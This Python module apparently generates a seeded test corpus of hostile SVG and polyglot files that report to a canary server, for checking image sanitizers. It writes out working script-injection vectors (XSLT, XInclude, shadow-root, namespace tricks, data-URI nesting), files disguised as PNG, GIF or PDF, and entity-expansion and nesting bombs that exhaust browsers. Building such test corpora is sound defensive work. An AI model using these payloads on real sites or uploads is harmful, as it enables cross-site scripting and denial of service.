"""All hostile drawings: what they want, times how they hide it, and files that are no drawings.

Which of the many combinations a run takes is decided by a seed, so that the same run is the same
everywhere.
"""

from __future__ import annotations

import base64
import random
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from hiding import Hiding, hidings, plain
from markup import SVG, XHTML, XLINK
from payloads import Canary, Payload, payloads


@dataclass(frozen=True)
class Drawing:
    """A hostile file; its name is also the host by which the canary server knows it."""

    name: str
    extension: str
    # What it wants, and how it hides that: what the report counts by.
    category: str
    hiding: str
    content: bytes
    # Whether a browser may be asked to open it: some are made to keep it busy for hours.
    is_opened: bool = True


# What every hiding is tried on.
FIRST = ("script-inline", "handler-onload", "link-script-href")


def drawings(count: int | None, seed: int) -> list[Drawing]:
    """`count` drawings, or all there are.

    Each payload stands there plainly, each hiding hides the first payloads and one that the lot
    decides, and the rest is drawn by lot.
    """
    every_payload, every_hiding = list(payloads()), list(hidings())
    lot = random.Random(seed)
    chosen: dict[tuple[str, str], None] = {(each.name, "plain"): None for each in every_payload}
    by_name = {each.name: each for each in every_payload}
    ways = {each.name: each for each in every_hiding}
    for index, way in enumerate(every_hiding):
        category = ("embedded", "fetch", "style")[index % 3]
        drawn = [each.name for each in every_payload if each.category == category]
        found = (name for name in lot.sample(drawn, len(drawn))
                 if way.written(by_name[name], Canary("a")))
        for name in (*FIRST, *list(found)[:1]):
            if way.written(by_name[name], Canary("a")):
                chosen[name, way.name] = None
    rest = [(payload.name, way.name) for payload in every_payload for way in every_hiding]
    lot.shuffle(rest)
    for pair in rest:
        if count is not None and len(chosen) >= count:
            break
        chosen.setdefault(pair)
    made = (_made(by_name[payload], ways[way], index)
            for index, (payload, way) in enumerate(chosen))
    return [each for each in made if each] + list(others())


def _made(payload: Payload, way: Hiding, index: int) -> Drawing | None:
    # A host's label has at most 63 letters, a file's name at most 100.
    name = f"d{index:05}"
    content = way.written(payload, Canary(name))
    if not content:
        return None
    return Drawing(name, "svg", payload.name, way.name, content)


# What no combination makes.


def others() -> Iterator[Drawing]:
    yield from _several()
    yield from _no_drawings()
    yield from _swollen()


def _one(name: str, content: bytes | str, extension: str = "svg", is_opened: bool = True
         ) -> Drawing:
    content = content.encode() if isinstance(content, str) else content
    return Drawing(name, extension, name.rpartition("-")[0], "own", content, is_opened)


def _several() -> Iterator[Drawing]:
    """Several tricks that belong together."""
    c = Canary("own-animated-style-1")
    yield _one(c.name, f'<svg xmlns="{SVG}"><rect><set attributeName="style" '
               f'to="fill:url({c.at("a")}#a)"/></rect></svg>')
    c = Canary("own-animated-class-1")
    yield _one(c.name, f'<svg xmlns="{SVG}"><style>.b{{background:url({c.at("a")})}}</style>'
               '<set attributeName="class" to="b"/></svg>')
    c = Canary("own-animated-handler-1")
    yield _one(c.name, f'<svg xmlns="{SVG}"><rect width="100%" height="100%"><set '
               f'attributeName="onclick" to="{c.code}"/></rect></svg>')
    c = Canary("own-events-1")
    yield _one(c.name, f'<svg xmlns="{SVG}" xmlns:ev="http://www.w3.org/2001/xml-events">'
               f'<handler ev:event="load" type="text/ecmascript">{c.code}</handler></svg>')
    c = Canary("own-include-1")
    yield _one(c.name, f'<svg xmlns="{SVG}" xmlns:xi="http://www.w3.org/2001/XInclude">'
               f'<xi:include href="{c.at("a.svg")}"/></svg>')
    c = Canary("own-transform-1")
    yield _one(c.name, '<?xml-stylesheet type="text/xsl" href="#a"?><!DOCTYPE svg [<!ATTLIST '
               'x:stylesheet id ID #REQUIRED>]><svg xmlns="' + SVG + '"><x:stylesheet id="a" '
               'version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">'
               f'<script xmlns="{XHTML}">{c.code}</script></x:template></x:stylesheet></svg>')
    c = Canary("own-transform-2")
    sheet = ("<x:stylesheet version='1.0' xmlns:x='http://www.w3.org/1999/XSL/Transform'>"
             f"<x:template match='/'><html xmlns='{XHTML}'><script>{c.code}</script></html>"
             "</x:template></x:stylesheet>").replace("#", "%23").replace('"', "%22")
    yield _one(c.name, '<?xml-stylesheet type="text/xsl" href="data:text/xml,'
               f'{sheet.replace("<", "&lt;")}"?><svg xmlns="{SVG}"/>')
    c = Canary("own-two-styles-1")
    yield _one(c.name, f'<svg xmlns="{SVG}"><style>/*</style><style>*/ svg{{background:'
               f'url({c.at("a")})}}</style></svg>')
    c = Canary("own-style-attribute-1")
    yield _one(c.name, f'<svg xmlns="{SVG}" style="fill:red;/*&quot;*/background:url(&#10;'
               f'{c.at("a")}&#10;)"/>')
    c = Canary("own-shadow-1")
    yield _one(c.name, f'<svg xmlns="{SVG}"><html:div xmlns:html="{XHTML}"><html:template '
               f'shadowrootmode="open"><script>{c.code}</script></html:template></html:div></svg>')
    c = Canary("own-two-hrefs-1")
    yield _one(c.name, f'<svg xmlns="{SVG}" xmlns:a="{XLINK}" xmlns:b="{XLINK}"><image width="9" '
               f'height="9" a:href="#a" href="{c.at("a")}"/></svg>')
    c = Canary("own-two-hrefs-2")
    yield _one(c.name, f'<svg xmlns="{SVG}" xmlns:a="{XLINK}" xmlns:b="{XLINK}"><image width="9" '
               f'height="9" a:href="#a" b:href="{c.at("a")}"/></svg>')
    c = Canary("own-empty-prefix-1")
    yield _one(c.name, f'<svg xmlns="{SVG}" xmlns:a=""><a:script>{c.code}</a:script></svg>')
    c = Canary("own-xml-prefix-1")
    yield _one(c.name, f'<xml:svg xmlns:xml="{SVG}"><xml:script>{c.code}</xml:script></xml:svg>')
    c = Canary("own-reserved-prefix-1")
    yield _one(c.name, f'<svg xmlns="{SVG}" xmlns:xmlns="{XHTML}"><xmlns:script>{c.code}'
               '</xmlns:script></svg>')
    c = Canary("own-embedded-picture-1")
    yield _one(c.name, f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}"><image xlink:href="data:'
               'image/png;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4="/></svg>')
    c = Canary("own-embedded-picture-2")
    yield _one(c.name, f'<svg xmlns="{SVG}"><image href=" DATA:image/PNG;base64,iVBORw0KGgo=" '
               f'width="9" height="9"/><image href="data:image/png,{c.at("a")}"/></svg>')
    c = Canary("own-embedded-picture-3")
    yield _one(c.name, f'<svg xmlns="{SVG}"><image width="9" height="9" href="data:image/svg+xml;'
               f'image/png;base64,{_base64(_fetching(c))}"/></svg>')
    c = Canary("own-embedded-picture-4")
    yield _one(c.name, f'<svg xmlns="{SVG}"><use href="data:;base64,{_base64(_fetching(c))}#a"/>'
               "</svg>")


def _fetching(canary: Canary) -> bytes:
    return (f'<svg id="a" xmlns="{SVG}"><image href="{canary.at("a")}"/><script>{canary.code}'
            "</script></svg>").encode()


def _base64(content: bytes) -> str:
    return base64.b64encode(content).decode()


def picture() -> bytes:
    """A PNG of one dot."""
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(
            ">I", zlib.crc32(kind + content))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0abc")) + chunk(b"IEND", b""))


def _no_drawings() -> Iterator[Drawing]:
    """Files that say of themselves that they are something else."""
    script = plain(next(payloads()), Canary("polyglot-svg-1"))
    for index, extension in enumerate(("png", "jpg", "jpeg", "webp"), 1):
        c = Canary(f"polyglot-svg-{index}")
        yield _one(c.name, plain(next(payloads()), c), extension)
        c = Canary(f"polyglot-page-{index}")
        yield _one(c.name, f"<html><script>{c.code}</script></html>", extension)
        c = Canary(f"polyglot-tail-{index}")
        page = f"<html><script>{c.code}</script></html>"
        yield _one(c.name, picture() + page.encode(), extension)
    yield _one("polyglot-png-1", picture())
    c = Canary("polyglot-html-1")
    yield _one(c.name, f"<!DOCTYPE html><html><script>{c.code}</script></html>")
    c = Canary("polyglot-html-2")
    yield _one(c.name, f"<html><body><img src=x onerror=\"{c.code}\"></body></html>")
    c = Canary("polyglot-html-3")
    yield _one(c.name, f'<html xmlns="{XHTML}"><script>{c.code}</script></html>')
    c = Canary("polyglot-html-4")
    yield _one(c.name, f'<!-- <svg xmlns="{SVG}"></svg> --><html xmlns="{XHTML}"><script>'
               f'{c.code}</script></html>')
    c = Canary("polyglot-html-5")
    yield _one(c.name, f'<svg xmlns="{SVG}"/><script>{c.code}</script>')
    c = Canary("polyglot-script-1")
    yield _one(c.name, f"{c.code};/*<svg xmlns='{SVG}'/>*/")
    c = Canary("polyglot-pdf-1")
    yield _one(c.name, f"%PDF-1.4\n<svg xmlns='{SVG}'><script>{c.code}</script></svg>")
    c = Canary("polyglot-gif-1")
    yield _one(c.name, b"GIF89a" + script.replace(b"polyglot-svg-1", b"polyglot-gif-1"))
    c = Canary("polyglot-archive-1")
    yield _one(c.name, b"PK\x03\x04" + bytes(26))
    yield _one("polyglot-empty-1", b"")
    yield _one("polyglot-empty-2", b" \n")
    yield _one("polyglot-empty-3", b"\xef\xbb\xbf")
    yield _one("polyglot-cut-1", f'<svg xmlns="{SVG}"><path d="M0 0')
    yield _one("polyglot-cut-2", f'<svg xmlns="{SVG}"><g>')
    yield _one("polyglot-cut-3", f'<svg xmlns="{SVG}"><g></svg>')


def _swollen() -> Iterator[Drawing]:
    """Drawings that grow while they are read, or keep a browser busy."""
    def bomb(index: int, subset: str, body: str) -> Drawing:
        return _one(f"swollen-entities-{index}",
                    f"<!DOCTYPE svg [{subset}]><svg xmlns='{SVG}'><text>{body}</text></svg>",
                    is_opened=False)
    laughs = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{index} "{f"&a{index - 1};" * 10}">' for index in range(1, 11))
    yield bomb(1, laughs, "&a10;")
    yield bomb(2, f'<!ENTITY a "{"a" * 50_000}">', "&a;" * 50_000)
    yield bomb(3, '<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;")
    yield bomb(4, '<!ENTITY % a "<!ENTITY &#37; b &#39;&#37;a;&#39;>">%a;%b;', "a")
    yield bomb(5, laughs.replace("ha", "<g/>"), "&a10;")
    uses = "".join(f'<g id="u{index}">{f"""<use href="#u{index - 1}"/>""" * 10}</g>'
                   for index in range(1, 10))
    yield _one("swollen-uses-1", f"<svg xmlns='{SVG}'><defs><path id='u0' d='M0 0h1v1'/>{uses}"
               "</defs><use href='#u9'/></svg>", is_opened=False)
    yield _one("swollen-uses-2", f"<svg xmlns='{SVG}'><g id='a'><use href='#a'/></g></svg>",
               is_opened=False)
    patterns = "".join(
        f'<pattern id="p{index}" width=".1" height=".1"><rect width="1" height="1" '
        f'fill="url(#p{index - 1})"/></pattern>' for index in range(1, 9))
    yield _one("swollen-patterns-1", f"<svg xmlns='{SVG}'>{patterns}<rect fill='url(#p8)'/></svg>",
               is_opened=False)
    yield _one("swollen-depth-1", f"<svg xmlns='{SVG}'>" + "<g>" * 200_000, is_opened=False)
    yield _one("swollen-depth-2", f"<svg xmlns='{SVG}'>" + "<g>" * 100_000 + "</g>" * 100_000
               + "</svg>", is_opened=False)
    yield _one("swollen-attributes-1", f"<svg xmlns='{SVG}' " + " ".join(
        f"a{index}=''" for index in range(100_000)) + "/>", is_opened=False)
    yield _one("swollen-namespaces-1", f"<svg xmlns='{SVG}' " + " ".join(
        f"xmlns:a{index}='urn:{index}'" for index in range(50_000)) + "/>", is_opened=False)
    yield _one("swollen-prefix-1", f"<{'a' * 500_000}:svg xmlns:{'a' * 500_000}='{SVG}'/>",
               is_opened=False)
    yield _one("swollen-text-1", f"<svg xmlns='{SVG}'><text>" + "&amp;" * 1_000_000
               + "</text></svg>", is_opened=False)
    yield _one("swollen-comment-1", f"<svg xmlns='{SVG}'><!--" + "a-" * 1_000_000 + "></svg>",
               is_opened=False)
    yield _one("swollen-filter-1", f"<svg xmlns='{SVG}'><filter id='a'>" + (
        "<feGaussianBlur stdDeviation='9999'/><feMorphology radius='9999'/>" * 200)
        + "</filter><rect filter='url(#a)' width='9999' height='9999'/></svg>", is_opened=False)
    yield _one("swollen-style-1", f"<svg xmlns='{SVG}'><style>" + "a{" * 500_000
               + "</style></svg>", is_opened=False)
    yield _one("swollen-style-2", f"<svg xmlns='{SVG}'><path style='" + "fill:url(" * 200_000
               + "'/></svg>", is_opened=False)
    yield _one("swollen-style-3", f"<svg xmlns='{SVG}'><style>" + "/*" * 500_000
               + "</style></svg>", is_opened=False)
    yield _one("swollen-numbers-1", f"<svg xmlns='{SVG}' viewBox='0 0 1e999 1e999' width='1e308' "
               "height='-1'><path d='" + "M1e308 1e-308" * 50_000 + "'/></svg>", is_opened=False)
